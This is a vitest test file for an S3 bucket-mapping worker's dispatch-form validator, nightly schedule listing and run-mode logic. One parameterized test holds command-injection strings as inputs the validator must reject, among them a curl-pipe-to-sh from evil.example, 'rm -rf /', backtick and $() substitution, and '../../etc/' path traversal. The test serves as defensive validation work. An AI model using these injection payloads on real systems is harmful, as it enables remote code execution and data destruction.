import { describe, expect, it } from 'vitest';
import { parseConfig } from '../../../worker/src/config/load-config.ts';
import { mappingRunMode } from '../../../worker/src/review/mapping-run-mode.ts';
import {
  checkDispatchForm,
  nightlyMappingIds,
  nightlyRunModes,
} from '../../../worker/src/review/workflow-inputs.ts';

const config = parseConfig(
  `
endpoints:
  src: { url: "http://127.0.0.1:9000", region: us-east-1 }
  dst: { region: us-east-1 }
mappings:
  - id: media
    source: { endpoint: src, bucket: media-prod, prefix: data/ }
    destination: { endpoint: dst, bucket: media-archive }
    schedule: nightly
  - id: media-thumbs
    source: { endpoint: src, bucket: media-prod, prefix: thumbs/ }
    destination: { endpoint: dst, bucket: media-archive }
  - id: logs
    source: { endpoint: src, bucket: logs-prod }
    destination: { endpoint: dst, bucket: logs-archive }
    schedule: nightly
    mode: copy
  - id: audit
    source: { endpoint: src, bucket: audit-prod }
    destination: { endpoint: dst, bucket: audit-archive }
    schedule: nightly
    mode: sync
  - id: by-hand
    source: { endpoint: src, bucket: hand-prod }
    destination: { endpoint: dst, bucket: hand-archive }
    mode: sync
`,
  'ferry.yaml',
);

describe('checkDispatchForm', () => {
  it('resolves a mapping by id with the run settings', () => {
    expect(
      checkDispatchForm(config, { mapping: 'logs', mode: 'full', workers: '12', dryRun: 'false' }),
    ).toEqual({
      ok: true,
      selection: { mappingId: 'logs', mode: 'full', workers: 12, dryRun: false },
    });
  });

  it('resolves a mapping by its buckets and prefix, and refuses an ambiguous or unknown pair', () => {
    const byBuckets = checkDispatchForm(config, {
      sourceBucket: 'media-prod',
      sourcePrefix: 'thumbs/',
      destinationBucket: 'media-archive',
      workers: '2',
      dryRun: 'true',
    });
    expect(byBuckets).toEqual({
      ok: true,
      selection: { mappingId: 'media-thumbs', mode: 'incremental', workers: 2, dryRun: true },
    });
    const ambiguous = checkDispatchForm(config, {
      sourceBucket: 'media-prod',
      destinationBucket: 'media-archive',
    });
    expect(ambiguous.ok).toBe(false);
    expect(ambiguous.ok ? [] : ambiguous.problems[0]).toMatch(
      /^source-prefix: several mappings match; name one: media \(/,
    );
    const unknown = checkDispatchForm(config, {
      sourceBucket: 'nope-prod',
      destinationBucket: 'media-archive',
    });
    expect(unknown.ok ? [] : unknown.problems[0]).toMatch(
      /^source-bucket: no configured mapping copies nope-prod\/ to media-archive/,
    );
    expect(checkDispatchForm(config, { mapping: 'nope' })).toEqual({
      ok: false,
      problems: ['mapping: no mapping "nope"; configured: media, media-thumbs, logs, audit, by-hand'],
    });
  });

  it.each([
    ['copy', 'incremental'],
    ['sync', 'sync'],
    ['full', 'full'],
    ['', 'incremental'],
  ] as const)('turns the mode choice %j into a %s run, whatever the mapping says', (mode, runMode) => {
    for (const mapping of ['media', 'audit']) {
      const result = checkDispatchForm(config, { mapping, mode });
      expect(result.ok ? result.selection.mode : result.problems).toBe(runMode);
    }
  });

  it.each([
    ['mapping', { mapping: 'logs"; curl https://evil.example | sh; "' }, /^mapping: .* must be a mapping id/],
    ['mapping', { mapping: 'logs`id`' }, /^mapping: "logs`id`" must be a mapping id/],
    ['mapping', { mapping: 'logs\nrm -rf /' }, /^mapping: "logs\\nrm -rf \/" contains a line break/],
    ['mapping', { mapping: '$(curl evil)' }, /^mapping: .* must be a mapping id/],
    [
      'source-prefix',
      { mapping: 'logs', sourcePrefix: '../../etc/' },
      /^source-prefix: .* must not contain "\." or "\.\." path segments/,
    ],
    [
      'source-prefix',
      { mapping: 'logs', sourcePrefix: 'a/`whoami`/' },
      /^source-prefix: .* may hold only letters/,
    ],
    [
      'source-prefix',
      { mapping: 'logs', sourcePrefix: 'a\r\nb' },
      /^source-prefix: "a\\r\\nb" contains a line break/,
    ],
    [
      'source-bucket',
      { sourceBucket: 'x"; curl evil', destinationBucket: 'logs-archive' },
      /^source-bucket: .* must be an S3 bucket name/,
    ],
    [
      'workers',
      { mapping: 'logs', workers: '1; curl evil' },
      /^workers: .* must be a whole number from 0 to 500/,
    ],
    ['workers', { mapping: 'logs', workers: '9999' }, /^workers: "9999" must be a whole number/],
    ['mode', { mapping: 'logs', mode: 'delete' }, /^mode: "delete" must be copy, sync or full/],
    ['mode', { mapping: 'logs', mode: 'incremental' }, /^mode: "incremental" must be copy, sync or full/],
    ['mode', { mapping: 'logs', mode: 'sync\n' }, /^mode: "sync\\n" contains a line break/],
    ['mode', { mapping: 'logs', mode: 'SYNC' }, /^mode: "SYNC" must be copy, sync or full/],
    ['dry-run', { mapping: 'logs', dryRun: 'yes' }, /^dry-run: "yes" must be true or false/],
  ])('refuses a hostile %s with a clear error naming the field', (_field, form, expected) => {
    const result = checkDispatchForm(config, form);
    expect(result.ok).toBe(false);
    expect(result.ok ? '' : result.problems.join('\n')).toMatch(expected);
  });

  it('asks for a mapping when the form names none', () => {
    expect(checkDispatchForm(config, { workers: '2' })).toEqual({
      ok: false,
      problems: ['mapping: name a mapping id, or a source-bucket and a destination-bucket'],
    });
  });

  it('reports every bad field at once, before looking anything up', () => {
    const result = checkDispatchForm(config, { mapping: 'no pe', workers: 'x', mode: 'y' });
    expect(result.ok ? [] : result.problems.map((problem) => problem.split(':')[0])).toEqual([
      'mapping',
      'mode',
      'workers',
    ]);
  });
});

describe('nightlyMappingIds', () => {
  it('lists the mappings scheduled nightly, in file order', () => {
    expect(nightlyMappingIds(config)).toEqual(['media', 'logs', 'audit']);
  });
});

describe('nightlyRunModes', () => {
  it("gives each nightly mapping's run mode by id: sync for mode: sync, otherwise incremental", () => {
    const modes = nightlyRunModes(config);
    expect(modes).toEqual({ media: 'incremental', logs: 'incremental', audit: 'sync' });
    // What the nightly matrix does with it: one entry per id, each looked up.
    expect(nightlyMappingIds(config).map((id) => modes[id])).toEqual(['incremental', 'incremental', 'sync']);
    expect(JSON.parse(JSON.stringify(modes))).toEqual(modes);
  });

  it('is empty without nightly mappings', () => {
    expect(nightlyRunModes({ ...config, mappings: [] })).toEqual({});
  });
});

describe('mappingRunMode', () => {
  it('never runs a mapping in full mode of its own accord', () => {
    expect([mappingRunMode({ mode: 'sync' }), mappingRunMode({ mode: 'copy' }), mappingRunMode({})]).toEqual([
      'sync',
      'incremental',
      'incremental',
    ]);
  });
});
